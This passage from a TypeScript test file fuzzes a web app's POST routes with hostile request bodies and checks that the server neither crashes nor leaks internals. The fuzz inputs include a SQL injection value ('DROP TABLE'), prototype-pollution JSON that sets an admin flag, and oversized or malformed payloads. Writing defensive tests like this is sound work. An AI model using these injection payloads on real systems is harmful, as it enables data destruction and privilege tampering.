    // Ingest trims values (so '\t=1+1' is stored as '=1+1'); each comes back with its leading quote.
    for (const f of FORMULAS) expect(exported.stdout).toContain(csvQuote(`'${f.trim()}`).slice(0, 12));
  }, 60_000);
});

// ------------------------------------------------------------------------------------------------
// Hostile request bodies

const hostileBody: fc.Arbitrary<{ body: string | Uint8Array; contentType: string }> = fc.oneof(
  fc.record({ body: fc.string({ maxLength: 200 }), contentType: fc.constant('application/json') }),
  fc.record({ body: fc.uint8Array({ maxLength: 200 }), contentType: fc.constantFrom('application/json', 'text/csv', 'application/octet-stream') }),
  fc.record({ body: fc.json({ maxDepth: 4 }), contentType: fc.constant('application/json') }),
  fc.record({ body: fc.integer({ min: 1, max: 60_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)), contentType: fc.constant('application/json') }),
  fc.record({ body: fc.constantFrom('{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '{"measure":"incidents","by":["__proto__"]}'), contentType: fc.constant('application/json') }),
  fc.record({
    body: fc.record({ measure: fc.constantFrom('incidents', 'rate', 'victims', "'; DROP TABLE incidents; --"), from: fc.string({ maxLength: 30 }), by: fc.array(fc.string({ maxLength: 20 }), { maxLength: 4 }) }).map((o) => JSON.stringify(o)),
    contentType: fc.constant('application/json'),
  }),
  fc.record({ body: fc.constantFrom('x'.repeat(2 * MiB), '"' + 'é'.repeat(600_000) + '"'), contentType: fc.constant('application/json') }),
  fc.record({ body: fc.constant(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])), contentType: fc.constant('application/json; charset=utf-8') }),
);

describe.each(ENGINES)('hostile request bodies on %s', (engine) => {
  let t: TestStore;
  let svoApp: SvoApp;
  let analyst: Client;
  const logged: string[] = [];
  beforeAll(async () => {
    t = await createTestStore(engine);
    await syncDefinitions(t.store, readDefinitionFiles(definitionDirs({})));
    await ingest(t.store, 'police', join(FIXTURES, 'police/canonical.csv'), 0.5);
    svoApp = buildApp({ store: t.store, demo: false, version: 'test', log: (m) => logged.push(m), requestsPerMinute: 100_000, loginAttemptsPerMinute: 100_000 });
    analyst = await signedIn(svoApp.app, t.store, 'analyst');
  });
  afterAll(async () => await t.dispose());

  it('never crashes and never leaks internals: 4xx, or a bare 500 at worst, and the server answers afterwards', async () => {
    const posts = [...new Set(svoApp.app.routes.filter((r) => r.method === 'POST' && r.path !== '/api/login' && r.path !== '/api/logout').map((r) => r.path))];
    expect(posts.length).toBeGreaterThan(5);
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...posts), hostileBody, async (path, { body, contentType }) => {
        const res = await analyst.request(path, { method: 'POST', body: typeof body === 'string' ? body : (Buffer.from(body) as unknown as string), headers: { 'content-type': contentType } });
        const text = await res.text();
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        if (res.status >= 500) expect(JSON.parse(text)).toEqual({ error: 'internal error' });
        expect(text).not.toMatch(/\n\s+at |node_modules|SELECT |duckdb|postgres|\/work\//i);
      }),
      { seed: 6, numRuns: 120 },
    );
    const health = await analyst.get('/api/health');
    expect(health.status).toBe(200);
    process.stderr.write(`[hostile http ${engine}] statuses ${JSON.stringify(Object.fromEntries(statuses))}, ${logged.length} internal error(s) logged\n`);
  }, 120_000);
});
